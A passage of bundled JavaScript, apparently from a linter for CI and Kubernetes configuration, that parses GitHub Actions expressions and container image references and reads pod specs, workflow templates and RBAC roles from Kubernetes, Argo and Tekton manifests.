            yield* yieldedPaths(argument, whole || expression.name === 'tojson');
    }
    else if (expression.operator === '&&') {
        const last = expression.operands.at(-1);
        const never = expression.operands.some((operand) => (0,_expression_fold_js__WEBPACK_IMPORTED_MODULE_0__/* .truth */ .Im)(operand) === false);
        if (last !== undefined && !never)
            yield* yieldedPaths(last, whole, below);
    }
    else if (expression.operator === '||') {
        for (const operand of expression.operands) {
            yield* yieldedPaths(operand, whole, below);
            if ((0,_expression_fold_js__WEBPACK_IMPORTED_MODULE_0__/* .truth */ .Im)(operand) === true)
                return;
        }
    }
}
/** Every context that is read anywhere in the expression, whatever becomes of it. */
function* readPaths(expression) {
    if (expression.kind === 'literal')
        return;
    const below = expression.kind === 'access' ? expression.steps : expression.kind === 'call' ? expression.arguments : expression.operands;
    if (expression.kind === 'access') {
        if (typeof expression.base === 'string')
            yield { path: (0,_expression_fold_js__WEBPACK_IMPORTED_MODULE_0__/* .accessPath */ ._y)(expression), span: expression.span, whole: false };
        else
            yield* readPaths(expression.base);
    }
    const whole = expression.kind === 'call' && expression.name === 'tojson';
    for (const part of below)
        if (part !== null)
            for (const found of readPaths(part))
                yield whole ? { ...found, whole } : found;
}
function* accessPaths(access, whole, below) {
    const path = [...(0,_expression_fold_js__WEBPACK_IMPORTED_MODULE_0__/* .accessPath */ ._y)(access), ...below];
    if (typeof access.base === 'string')
        yield { path, span: access.span, whole };
    else
        yield* yieldedPaths(access.base, whole, path);
}


/***/ }),

/***/ 1236:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  Y: () => (/* binding */ parseExpression)
});

;// CONCATENATED MODULE: ./lib/documents/expression-tokens.js
const expression_tokens_form = /\s+|([A-Za-z_][\w-]*)|'((?:[^']|'')*)'|([-+]?(?:0x[\da-fA-F]+|0o[0-7]+|(?:\d+\.?\d*|\.\d+)(?:[eE][-+]?\d+)?))|(&&|\|\||[=!<>]=|[()[\],.!<>*])/y;
/** Splits an expression into tokens; null where it holds a character that the language does not know. */
function expressionTokens(text, offset) {
    const tokens = [];
    for (let at = 0; at < text.length;) {
        const previous = tokens.at(-1);
        // After a property's dot a digit is no number, and after an operand a dot is no decimal point.
        expression_tokens_form.lastIndex = at;
        const match = text[at] === '.' && isOperand(previous) ? null : expression_tokens_form.exec(text);
        const length = match?.[0].length ?? (text[at] === '.' ? 1 : 0);
        if (length === 0)
            return null;
        const span = { start: offset + at, end: offset + at + length };
        const [, name, string, number, sign] = match ?? [];
        if (name !== undefined)
            tokens.push({ kind: 'name', text: name, span });
        else if (string !== undefined)
            tokens.push({ kind: 'string', text: string.replaceAll("''", "'"), span });
        else if (number !== undefined)
            tokens.push({ kind: 'number', text: number, span });
        else if (sign !== undefined || match === null)
            tokens.push({ kind: 'sign', text: sign ?? '.', span });
        at += length;
    }
    return tokens;
}
const isOperand = (token) => token !== undefined && (token.kind === 'name' || token.text === ')' || token.text === ']' || token.text === '*');

;// CONCATENATED MODULE: ./lib/documents/expression.js

/** Nesting that GitHub's own parser refuses. */
const maxDepth = 50;
/** Characters of one expression that GitHub's own parser takes. */
const maxLength = 21_000;
/** From the loosest to the tightest. */
const levels = [['||'], ['&&'], ['==', '!='], ['<', '<=', '>', '>=']];
/**
 * Parses one expression (what stands between `${{` and `}}`) by GitHub's grammar.
 * Null where it is none. Never throws.
 * @param offset added to every span
 */
function parseExpression(text, offset = 0) {
    const tokens = text.length > maxLength ? null : expressionTokens(text, offset);
    if (tokens === null || tokens.length === 0)
        return null;
    const parser = new Parser(tokens);
    const expression = parser.binary(0, 0);
    return expression !== null && parser.atEnd ? expression : null;
}
/** Recursive descent; every method gives null where the text is no expression. */
class Parser {
    #tokens;
    #at = 0;
    constructor(tokens) {
        this.#tokens = tokens;
    }
    get atEnd() {
        return this.#at >= this.#tokens.length;
    }
    /** From a token to the one that was read last, parentheses of a group included. */
    #since(first) {
        const end = this.#tokens[this.#at - 1]?.span.end ?? 0;
        return { start: first?.span.start ?? end, end };
    }
    #take(...signs) {
        const token = this.#tokens[this.#at];
        if (token?.kind !== 'sign' || !signs.includes(token.text))
            return undefined;
        this.#at++;
        return token;
    }
    binary(level, depth) {
        const operators = levels[level];
        if (operators === undefined)
            return this.#unary(depth);
        const start = this.#tokens[this.#at];
        let left = this.binary(level + 1, depth);
        let operator = this.#take(...operators)?.text;
        for (let length = 0; left !== null && operator !== undefined; length++) {
            // Comparisons nest to the left, one deeper each.
            if (length > maxDepth)
                return null;
            const operands = [left];
            let next = operator;
            while (next === operator && (operands.length === 1 || level < 2)) {
                const right = this.binary(level + 1, depth);
                if (right === null)
                    return null;
                operands.push(right);
                left = { kind: 'operation', operator, operands, span: this.#since(start) };
                next = this.#take(...operators)?.text;
            }
            operator = next;
        }
        return left;
    }
    #unary(depth) {
        if (depth > maxDepth)
            return null;
        const not = this.#take('!');
        if (not === undefined)
            return this.#postfix(depth);
        const operand = this.#unary(depth + 1);
        return operand && { kind: 'operation', operator: '!', operands: [operand], span: this.#since(not) };
    }
    #postfix(depth) {
        const first = this.#tokens[this.#at];
        const base = this.#primary(depth);
        if (base === null || first === undefined)
            return null;
        const steps = [];
        for (let sign = this.#take('.', '['); sign !== undefined; sign = this.#take('.', '[')) {
            const all = this.#take('*') !== undefined;
            const step = all ? null : sign.text === '.' ? this.#property() : this.binary(0, depth + 1);
            if ((step === null && !all) || (sign.text === '[' && this.#take(']') === undefined))
                return null;
            steps.push(step);
        }
        return typeof base === 'string' || steps.length > 0 ? { kind: 'access', base, steps, span: this.#since(first) } : base;
    }
    #property() {
        const token = this.#tokens[this.#at];
        if (token?.kind !== 'name')
            return null;
        this.#at++;
        return { kind: 'literal', value: token.text, span: token.span };
    }
    /** A string is a context's name. */
    #primary(depth) {
        if (this.#take('(')) {
            const inner = this.binary(0, depth + 1);
            return inner !== null && this.#take(')') ? inner : null;
        }
        const token = this.#tokens[this.#at];
        if (token === undefined || token.kind === 'sign')
            return null;
        this.#at++;
        if (token.kind === 'string')
            return { kind: 'literal', value: token.text, span: token.span };
        if (token.kind === 'number')
            return { kind: 'literal', value: Number(token.text.replace(/^[-+](?=0[xo])/, '')), span: token.span };
        if (this.#take('('))
            return this.#call(token, depth);
        const constant = constants.get(token.text.toLowerCase());
        return constant === undefined ? token.text : { kind: 'literal', value: constant, span: token.span };
    }
    #call(name, depth) {
        const args = [];
        let close = this.#take(')');
        while (close === undefined) {
            const argument = this.binary(0, depth + 1);
            if (argument === null)
                return null;
            args.push(argument);
            close = this.#take(')');
            if (close === undefined && this.#take(',') === undefined)
                return null;
        }
        return { kind: 'call', name: name.text.toLowerCase(), arguments: args, span: this.#since(name) };
    }
}
const constants = new Map([
    ['true', true],
    ['false', false],
    ['null', null],
    ['nan', Number.NaN],
    ['infinity', Number.POSITIVE_INFINITY],
]);


/***/ }),

/***/ 2191:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Rg: () => (/* binding */ expandedImage),
/* harmony export */   nT: () => (/* binding */ isOpen),
/* harmony export */   rA: () => (/* binding */ imageReference),
/* harmony export */   zZ: () => (/* binding */ parseImage)
/* harmony export */ });
/* harmony import */ var _needs_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(4739);

const expressions = [
    ['${{', '}}'],
    ['{{', '}}'],
    ['${', '}'],
    ['$(', ')'],
    ['<%', '%>'],
];
const expressionNeeds = [['{', '$', '<', '%']];
/** Stands for one character of a variable or a template; no reference holds it. */
const hole = '\u0001';
/** The text with every variable and template action (`$X`, `${X:-y}`, `{{ … }}`, `$(X)`, `%X%`) overwritten, at the same length. */
function maskExpressions(text) {
    if (!(0,_needs_js__WEBPACK_IMPORTED_MODULE_0__/* .mayMatch */ .B7)(text, expressionNeeds))
        return text;
    let masked = '';
    const unclosed = new Set();
    for (let at = 0; at < text.length;) {
        const end = expressionEnd(text, at, unclosed);
        masked += end > at ? hole.repeat(end - at) : (text[at] ?? '');
        at = Math.max(end, at + 1);
    }
    return masked;
}
/** `unclosed` keeps the openings that nothing closes any more, so that each is searched for once. */
function expressionEnd(text, at, unclosed) {
    for (const [open, close] of expressions) {
        if (!text.startsWith(open, at) || unclosed.has(open))
            continue;
        const end = text.indexOf(close, at + open.length);
        if (end >= 0)
            return end + close.length;
        unclosed.add(open);
    }
    const variable = /\$[A-Za-z_]\w*|%[A-Za-z_]\w*%/y;
    variable.lastIndex = at;
    return variable.test(text) ? variable.lastIndex : at;
}
/** Holds a variable or a template action. */
const isOpen = (text) => maskExpressions(text).includes(hole);
const digestForm = /^[A-Za-z][A-Za-z0-9]*(?:[-_+.][A-Za-z][A-Za-z0-9]*)*:[0-9a-fA-F]{32,}$/;
const pathForm = /^[A-Za-z0-9\u0001][A-Za-z0-9._\-/\u0001]*$/;
const tagForm = /^[\w\u0001][\w.\-\u0001]*$/;
const registryForm = /^(?:\[[0-9a-fA-F:.]+\]|[A-Za-z0-9\u0001][A-Za-z0-9.\-_\u0001]*)(?::[\d\u0001]+)?$/;
/** A first component names a registry only if it has a dot or a port, or is `localhost`: else it is a Docker Hub user. */
const isRegistry = (component) => component.includes('.') || component.includes(':') || component === 'localhost';
/**
 * Splits a reference by the distribution grammar: `[domain[:port]/]path[:tag][@digest]`. Variables and template actions may stand in
 * any part and are kept as written. Null where the text is no reference. Upper case is let through: the registry refuses it, not the reader.
 */
function parseImage(text, offset = 0) {
    const masked = maskExpressions(text);
    const part = (start, end) => ({
        value: text.slice(start, end),
        span: { start: offset + start, end: offset + end },
    });
    const digestAt = masked.indexOf('@');
    const nameEnd = digestAt < 0 ? masked.length : digestAt;
    if (digestAt >= 0 && !digestForm.test(masked.slice(digestAt + 1)) && !masked.includes(hole, digestAt))
        return null;
    const lastSlash = masked.lastIndexOf('/', nameEnd - 1);
    const colon = masked.indexOf(':', lastSlash + 1);
    const tagAt = colon >= 0 && colon < nameEnd ? colon : -1;
    if (tagAt >= 0 && !tagForm.test(masked.slice(tagAt + 1, nameEnd)))
        return null;
    const pathEnd = tagAt < 0 ? nameEnd : tagAt;
    const firstSlash = masked.indexOf('/');
    const hasRegistry = firstSlash > 0 && firstSlash < pathEnd && isRegistry(masked.slice(0, firstSlash));
    if (hasRegistry && !registryForm.test(masked.slice(0, firstSlash)))
        return null;
    const pathStart = hasRegistry ? firstSlash + 1 : 0;
    if (!pathForm.test(masked.slice(pathStart, pathEnd)))
        return null;
    return {
        registry: hasRegistry ? part(0, firstSlash) : null,
        repository: part(pathStart, pathEnd),
        tag: tagAt < 0 ? null : part(tagAt + 1, nameEnd),
        digest: digestAt < 0 ? null : part(digestAt + 1, masked.length),
    };
}
/** The grain for a reference with variables, or null where the text is no reference. */
function expandedImage(source, { value, complete, verbatim, place }) {
    const parsed = parseImage(value);
    if (!parsed)
        return null;
    const placed = (part) => ({ value: part.value, span: place(part.span.start, part.span.end) });
    return {
        ...source,
        text: value,
        registry: parsed.registry && placed(parsed.registry),
        repository: placed(parsed.repository),
        tag: parsed.tag && placed(parsed.tag),
        digest: parsed.digest && placed(parsed.digest),
        unresolved: !complete || isOpen(value),
        whole: verbatim ? place(0, value.length) : null,
    };
}
/** The grain for a reference that is written out at its place; where quotes or escapes are in between, its parts have the place of the whole. */
function imageReference(source) {
    const { text, ...rest } = source;
    const { start } = source.span;
    const verbatim = source.document.text.slice(source.span) === text;
    const place = (from, to) => (verbatim ? { start: start + from, end: start + to } : source.span);
    return expandedImage(rest, { value: text, complete: true, verbatim, place });
}


/***/ }),

/***/ 1834:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   e: () => (/* binding */ podsOfPipeline)
/* harmony export */ });
/* harmony import */ var _kubernetes_pod_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(2906);
/* harmony import */ var _yaml_values_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(5682);
/* harmony import */ var _yaml_views_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(2588);



/**
 * The pods of an object of Argo Workflows or Tekton, which describe them in ways of their own. The configuration of their controllers, patches of
 * the pod and the run that uses a task complete them.
 */
function podsOfPipeline({ group, root }) {
    const spec = (0,_kubernetes_pod_js__WEBPACK_IMPORTED_MODULE_0__/* .mapAt */ .S)(root, 'spec');
    if (spec === undefined)
        return [];
    if (group === 'argoproj.io')
        return argoPods((0,_kubernetes_pod_js__WEBPACK_IMPORTED_MODULE_0__/* .mapAt */ .S)(spec, 'workflowSpec') ?? spec);
    return group === 'tekton.dev' ? tektonPods(spec, '', 0) : [];
}
/** Argo Workflows, "Field Reference", `WorkflowSpec` and `Template`: both have fields of a pod; the template's count first. */
function argoPods(workflow) {
    const templates = (0,_yaml_values_js__WEBPACK_IMPORTED_MODULE_2__/* .mapsIn */ .nf)(workflow.at('templates')).map((template) => ({
        template,
        part: `template ${template.at('name')?.string ?? ''}`.trimEnd(),
    }));
    const defaults = (0,_kubernetes_pod_js__WEBPACK_IMPORTED_MODULE_0__/* .mapAt */ .S)(workflow, 'templateDefaults');
    if (defaults !== undefined)
        templates.push({ template: defaults, part: 'template defaults' });
    if (templates.length === 0)
        return [];
    return [
        { spec: workflow, metadata: null, part: '' },
        ...templates.map(({ template, part }) => {
            const containers = [template.at('container'), template.at('script')].filter((node) => node?.kind === 'map');
            const more = [...(0,_yaml_values_js__WEBPACK_IMPORTED_MODULE_2__/* .mapsIn */ .nf)(template.at('sidecars')), ...(0,_yaml_values_js__WEBPACK_IMPORTED_MODULE_2__/* .mapsIn */ .nf)(template.at('containerSet', 'containers'))];
            return { spec: podSpec(template, [...containers, ...more], workflow.at('securityContext')), metadata: null, part, unnamed: 'main' };
        }),
    ];
}
/** Deeper than a pipeline run, its pipeline and that one's tasks no embedded specification goes. */
const tektonDepth = 3;
/** Tekton, "Tasks", "TaskRuns" and "PipelineRuns": each step and sidecar is a container, a pod template is a part of a pod specification. */
function tektonPods(spec, part, depth) {
    if (depth > tektonDepth)
        return [];
    const runs = [spec, (0,_kubernetes_pod_js__WEBPACK_IMPORTED_MODULE_0__/* .mapAt */ .S)(spec, 'taskRunTemplate'), ...(0,_yaml_values_js__WEBPACK_IMPORTED_MODULE_2__/* .mapsIn */ .nf)(spec.at('taskRunSpecs'))];
    const templates = runs.flatMap((run) => (run && (0,_kubernetes_pod_js__WEBPACK_IMPORTED_MODULE_0__/* .mapAt */ .S)(run, 'podTemplate')) ?? []);
    const template = (0,_kubernetes_pod_js__WEBPACK_IMPORTED_MODULE_0__/* .mapAt */ .S)(spec, 'stepTemplate');
    const containers = [...(template ? [template] : []), ...(0,_yaml_values_js__WEBPACK_IMPORTED_MODULE_2__/* .mapsIn */ .nf)(spec.at('steps')), ...(0,_yaml_values_js__WEBPACK_IMPORTED_MODULE_2__/* .mapsIn */ .nf)(spec.at('sidecars'))];
    const embedded = [
        { spec: (0,_kubernetes_pod_js__WEBPACK_IMPORTED_MODULE_0__/* .mapAt */ .S)(spec, 'taskSpec'), part },
        { spec: (0,_kubernetes_pod_js__WEBPACK_IMPORTED_MODULE_0__/* .mapAt */ .S)(spec, 'pipelineSpec'), part },
        ...['tasks', 'finally'].flatMap((key) => (0,_yaml_values_js__WEBPACK_IMPORTED_MODULE_2__/* .mapsIn */ .nf)(spec.at(key)).map((task) => ({ spec: (0,_kubernetes_pod_js__WEBPACK_IMPORTED_MODULE_0__/* .mapAt */ .S)(task, 'taskSpec'), part: `task ${task.at('name')?.string ?? ''}`.trimEnd() }))),
    ];
    return [
        ...templates.map((written) => ({ spec: written, metadata: null, part: 'pod template' })),
        ...(containers.length === 0 ? [] : [{ spec: podSpec(spec, containers, template?.at('securityContext')), metadata: null, part }]),
        ...embedded.flatMap((inner) => (inner.spec === undefined ? [] : tektonPods(inner.spec, inner.part, depth + 1))),
    ];
}
/** A pod specification of what is written as one, of containers that are not in its lists, and of a security context for where it has none. */
const podSpec = (written, containers, context) => (0,_yaml_views_js__WEBPACK_IMPORTED_MODULE_1__/* .held */ .yB)(written, { containers: (0,_yaml_views_js__WEBPACK_IMPORTED_MODULE_1__/* .listOf */ .c3)(written.span, containers) }, written, ...(context === undefined ? [] : [(0,_yaml_views_js__WEBPACK_IMPORTED_MODULE_1__/* .held */ .yB)(context, { securityContext: context })]));


/***/ }),

/***/ 2906:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   F: () => (/* binding */ podOf),
/* harmony export */   S: () => (/* binding */ mapAt)
/* harmony export */ });
/** Where kinds of the API and of well-known controllers hold their pod template; empty for a kind that is a pod itself. */
const templates = {
    Pod: [],
    PodTemplate: ['template'],
    Deployment: ['spec', 'template'],
    StatefulSet: ['spec', 'template'],
    DaemonSet: ['spec', 'template'],
    ReplicaSet: ['spec', 'template'],
    ReplicationController: ['spec', 'template'],
    Job: ['spec', 'template'],
    CronJob: ['spec', 'jobTemplate', 'spec', 'template'],
    DeploymentConfig: ['spec', 'template'],
    Rollout: ['spec', 'template'],
};
/** Where below `spec` a custom resource with pods of its own mostly has them (Knative, OpenKruise, Kubeflow, KEDA, agent sandboxes …). */
const customTemplates = [
    ['template'],
    ['podTemplate'],
    ['jobTemplate', 'spec', 'template'],
    ['jobTargetRef', 'template'],
];
function podOf(root, group, kind) {
    if (group === 'serving.knative.dev')
        return knativePod(root, kind);
    const path = templates[kind];
    return path === undefined ? customPod(root) : podAt(root, ...path);
}
/** Only there may a container be without a name: Knative gives it one (`config-defaults`, `container-name-template`). */
function knativePod(root, kind) {
    const pod = kind === 'Revision' ? podAt(root) : customPod(root);
    return pod && { ...pod, unnamed: 'user-container' };
}
function customPod(root) {
    const spec = mapAt(root, 'spec');
    return spec && customTemplates.map((custom) => podAt(spec, ...custom)).find((pod) => pod?.spec.at('containers')?.kind === 'sequence');
}
function podAt(root, ...path) {
    const spec = mapAt(root, ...path, 'spec');
    return spec && { spec, metadata: mapAt(root, ...path, 'metadata') ?? null };
}
function mapAt(root, ...path) {
    const node = root.at(...path);
    return node?.kind === 'map' ? node : undefined;
}


/***/ }),

/***/ 1457:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   OT: () => (/* binding */ isBinding),
/* harmony export */   Rr: () => (/* binding */ grantsOf),
/* harmony export */   TL: () => (/* binding */ quoted),
/* harmony export */   Ut: () => (/* binding */ coversGroup),
/* harmony export */   Z6: () => (/* binding */ subjectsOf),
/* harmony export */   iw: () => (/* binding */ stringsOf),
/* harmony export */   nm: () => (/* binding */ policyRulesOf),
/* harmony export */   tm: () => (/* binding */ isRole)
/* harmony export */ });
/* harmony import */ var _yaml_values_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(5682);

const isRole = (resource) => resource.kind === 'ClusterRole' || resource.kind === 'Role';
const isBinding = (resource) => ['rolebinding', 'clusterrolebinding'].includes(resource.kind.toLowerCase());
const policyRulesOf = (role) => (0,_yaml_values_js__WEBPACK_IMPORTED_MODULE_0__/* .mapsIn */ .nf)(role.at('rules')).map((node) => ({
    node,
    apiGroups: (0,_yaml_values_js__WEBPACK_IMPORTED_MODULE_0__/* .scalarsIn */ .PX)(node.at('apiGroups')),
    resources: (0,_yaml_values_js__WEBPACK_IMPORTED_MODULE_0__/* .scalarsIn */ .PX)(node.at('resources')),
    verbs: (0,_yaml_values_js__WEBPACK_IMPORTED_MODULE_0__/* .scalarsIn */ .PX)(node.at('verbs')),
    resourceNames: (0,_yaml_values_js__WEBPACK_IMPORTED_MODULE_0__/* .scalarsIn */ .PX)(node.at('resourceNames')),
}));
/**
 * What a role grants of a permission to resources that it names, or to all of a group that it names. A wildcard for the resources of the
 * core group or of all groups is another fact, and so is a rule for single objects (`resourceNames`).
 */
function* grantsOf(role, { groups, resources, verbs }) {
    for (const rule of policyRulesOf(role)) {
        if (rule.resourceNames.length > 0 || !groups.some((group) => coversGroup(rule, group)))
            continue;
        const allowed = rule.verbs.filter((verb) => verb.string === '*' || verbs.includes(verb.string));
        if (allowed.length === 0)
            continue;
        const namesGroup = rule.apiGroups.some(({ string }) => string !== '' && string !== 'apps' && groups.includes(string));
        for (const resource of rule.resources) {
            const isNamed = resource.string === '*' ? namesGroup : resources.some((name) => covers(resource.string, name));
            if (isNamed)
                yield { rule, resource, verbs: allowed };
        }
    }
}
const coversGroup = (rule, group) => rule.apiGroups.length === 0 || rule.apiGroups.some(({ string }) => string === '*' || string === group);
/** By name, or by one half of a subresource's name. */
function covers(written, name) {
    if (written === name)
        return true;
    const [resource, subresource] = name.split('/');
    return subresource !== undefined && (written === `*/${subresource}` || written === `${resource}/*`);
}
const stringsOf = (nodes) => nodes.map((node) => node.string);
const quoted = (nodes) => nodes.map((node) => `"${node.string}"`).join(', ');
const subjectsOf = (binding) => (0,_yaml_values_js__WEBPACK_IMPORTED_MODULE_0__/* .mapsIn */ .nf)(binding.at('subjects')).flatMap((node) => {
    const nameNode = node.at('name');
    if (nameNode?.kind !== 'scalar')
        return [];
    const namespace = node.at('namespace')?.string ?? null;
    return [{ node, kind: node.at('kind')?.string ?? '', name: nameNode.string, nameNode, namespace }];
});


/***/ }),

/***/ 815:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  x: () => (/* binding */ KubernetesResource),
  C: () => (/* binding */ scalarAt)
});

// EXTERNAL MODULE: ./lib/documents/kubernetes-pod.js
var kubernetes_pod = __webpack_require__(2906);
;// CONCATENATED MODULE: ./lib/documents/kubernetes-partial.js

const selectorKinds = new Set(['Deployment', 'StatefulSet', 'DaemonSet', 'ReplicaSet']);
/**
 * True for an object that the API server would refuse as it stands, because it is merged into another: a strategic merge patch, an overlay.
 * What it leaves out may be set where it is merged.
 */
function isFragment({ root, apiVersion, group, kind }) {
    if (hasPatchDirective(root))
        return true;
    const pod = (0,kubernetes_pod/* podOf */.F)(root, group, kind);
    if (pod === undefined)
        return false;
    if (!hasImages(pod, kind))
        return true;
    // apps/v1 has no default for the selector, and it must match the template's labels.
    const selects = apiVersion === 'apps/v1' && selectorKinds.has(kind);
    return selects && root.at('spec', 'selector') === undefined && pod.metadata?.at('labels') === undefined;
}
/** Every container names its image: it has no default. Only a DeploymentConfig may get it from an image stream. */
function hasImages({ spec }, kind) {
    // Ephemeral containers are no part of a manifest that is merged: only of a pod as it runs.
    const containers = spec.at('containers') ?? spec.at('ephemeralContainers');
    if (containers?.kind !== 'sequence')
        return false;
    return kind === 'DeploymentConfig' || containers.items.every(({ value }) => value.at('image') !== undefined);
}
/** `$patch`, `$retainKeys`, `$setElementOrder/…`, `$deleteFromPrimitiveList/…` as keys. */
function hasPatchDirective(node) {
    if (node.kind === 'scalar')
        return false;
    if (node.kind === 'sequence')
        return node.items.some((item) => item.alias === null && hasPatchDirective(item.value));
    return node.entries.some(({ key, value, alias }) => isPatchDirective(key.string) || (alias === null && hasPatchDirective(value)));
}
const isPatchDirective = (name) => name.startsWith('$') && /^\$(?:patch$|retainKeys$|setElementOrder\/|deleteFromPrimitiveList\/)/.test(name);

;// CONCATENATED MODULE: ./lib/documents/kubernetes-resource.js

class KubernetesResource {
    document;
    root;
    span;
    apiVersion;
    group;
    kind;
    kindNode;
    name;
    namespace;
    anchor;
    subject;
    partial;
    /** `root` is a map whose `apiVersion` and `kind` are scalars, or an item of a list that says them for it; or it is known to be a `patch`. */
    constructor(document, root, { list, patch = false } = {}) {
        this.document = document;
        this.root = root;
        this.span = root.span;
        this.apiVersion = (root.at('apiVersion') ?? list?.at('apiVersion'))?.string ?? '';
        this.group = this.apiVersion.includes('/') ? this.apiVersion.slice(0, this.apiVersion.indexOf('/')) : '';
        const own = scalarAt(root, 'kind');
        const kind = own ?? (list && scalarAt(list, 'kind'));
        if (kind === undefined)
            throw new TypeError('an object without a kind is no resource');
        this.kindNode = kind;
        this.kind = own === undefined ? kind.string.replace(/List$/, '') : kind.string;
        const name = scalarAt(root, 'metadata', 'name') ?? scalarAt(root, 'metadata', 'generateName');
        this.name = name?.string ?? '';
        this.namespace = scalarAt(root, 'metadata', 'namespace')?.string || null;
        this.anchor = name ?? this.kindNode;
        const qualified = this.namespace === null ? this.name : `${this.namespace}/${this.name}`;
        this.subject = qualified === '' ? this.kind : `${this.kind} ${qualified}`;
        this.partial = document.partial || patch || isFragment(this);
    }
    at(...path) {
        return this.root.at(...path);
    }
}
function scalarAt(node, ...path) {
    const found = node.at(...path);
    return found?.kind === 'scalar' ? found : undefined;
}


/***/ }),

/***/ 4168:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   I: () => (/* binding */ pipelineWorkloadsOf),
/* harmony export */   m: () => (/* binding */ workloadsOf)
/* harmony export */ });
/* harmony import */ var _kubernetes_pipelines_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(1834);
/* harmony import */ var _kubernetes_pod_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(2906);
/* harmony import */ var _kubernetes_resource_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(815);



/** The pod specification of an object of any workload kind: none or one. */
function workloadsOf(resource) {
    const pod = (0,_kubernetes_pod_js__WEBPACK_IMPORTED_MODULE_1__/* .podOf */ .F)(resource.root, resource.group, resource.kind);
    return pod === undefined ? [] : [new KubernetesWorkload(resource, pod)];
}
/** The pods of an object that describes them in a way of its own. */
const pipelineWorkloadsOf = (resource) => (0,_kubernetes_pipelines_js__WEBPACK_IMPORTED_MODULE_0__/* .podsOfPipeline */ .e)(resource).map((pod) => new KubernetesWorkload(resource, pod));
class KubernetesWorkload {
    resource;
    document;
    subject;
    spec;
    span;
    metadata;
    containers;
    partial;
    windows;
    userNamespace;
    anchor;
    constructor(resource, pod) {
        this.resource = resource;
        this.document = resource.document;
        this.subject = `${resource.subject} ${pod.part ?? ''}`.trimEnd();
        this.spec = pod.spec;
        this.span = pod.spec.span;
        this.metadata = pod.metadata;
        this.partial = resource.partial || pod.part !== undefined;
        this.windows = pod.spec.at('os', 'name')?.string === 'windows';
        this.userNamespace = pod.spec.at('hostUsers')?.boolean === false;
        this.anchor = resource.anchor;
        this.containers = [...containersOf(this, pod.unnamed)];
    }
    at(...path) {
        return this.spec.at(...path);
    }
}
const lists = [
    ['initContainers', 'init'],
    ['containers', 'container'],
    ['ephemeralContainers', 'ephemeral'],
];
function* containersOf(workload, unnamed = '') {
    const { main } = workload.resource;
    // Not known apart from its pod by name, so that it makes no difference of which of the two the values speak.
    if (main)
        yield new KubernetesContainer(workload, 'container', main.node, main.anchor, { name: main.name, subject: workload.subject });
    for (const [key, type] of lists) {
        const list = workload.spec.at(key);
        if (list?.kind !== 'sequence')
            continue;
        for (const { value } of list.items) {
            const anchor = (0,_kubernetes_resource_js__WEBPACK_IMPORTED_MODULE_2__/* .scalarAt */ .C)(value, 'name') ?? (value.kind === 'map' ? firstKey(value) : undefined);
            if (value.kind === 'map' && anchor !== undefined)
                yield new KubernetesContainer(workload, type, value, anchor, { name: (0,_kubernetes_resource_js__WEBPACK_IMPORTED_MODULE_2__/* .scalarAt */ .C)(value, 'name')?.string ?? unnamed });
        }
    }
}
const firstKey = (map) => map.entries[0]?.key ?? map.merged.map(firstKey).find((key) => key !== undefined);
class KubernetesContainer {
    workload;
    document;
    type;
    node;
    span;
    name;
    anchor;
    subject;
    partial;
    constructor(workload, type, node, anchor, known) {
        this.workload = workload;
        this.document = workload.document;
        this.type = type;
        this.node = node;
        this.span = node.span;
        this.name = known.name;
        this.anchor = anchor;
        this.subject = known.subject ?? `${workload.subject} ${type === 'container' ? '' : `${type} `}container ${this.name}`.trimEnd();
        this.partial = workload.partial;
    }
    at(...path) {
        return this.node.at(...path);
    }
    effective(field, ...path) {
        const own = this.node.at('securityContext', field);
        const inherited = own === undefined || own.value === null ? this.workload.spec.at('securityContext', field) : own;
        return inherited?.value === null ? undefined : inherited?.at(...path);
    }
}


/***/ }),

/***/ 4739:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   $m: () => (/* binding */ anyQuote),
/* harmony export */   B7: () => (/* binding */ mayMatch),
/* harmony export */   a_: () => (/* binding */ quotes)
/* harmony export */ });
const quotes = ['"', "'"];
const anyQuote = ['"', "'", '`'];
/**
 * Whether an expression could match at all. Every process compiles its expressions anew, and that takes longer than to look for a literal in a
 * text that does not have it.
 * @param text in lower case where the literals are, and the expression knows no case
 */
function mayMatch(text, needs) {
    // By index, as this is asked for thousands of small texts: closures and iterators would cost more than the search.
    for (let at = 0; at < needs.length; at++)
        if (!holdsOne(text, needs[at] ?? []))
            return false;
    return true;
}
function holdsOne(text, literals) {
    for (let at = 0; at < literals.length; at++)
        if (text.includes(literals[at] ?? ''))
            return true;
    return false;
}


/***/ }),

/***/ 3774:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   $u: () => (/* binding */ isWorkflowPath),
/* harmony export */   Fl: () => (/* binding */ baseName),
/* harmony export */   Oq: () => (/* binding */ isActionPath),
/* harmony export */   je: () => (/* binding */ extensionOf)
/* harmony export */ });
/** The name of a file without its folder. */
const baseName = (path) => path.slice(path.lastIndexOf('/') + 1);
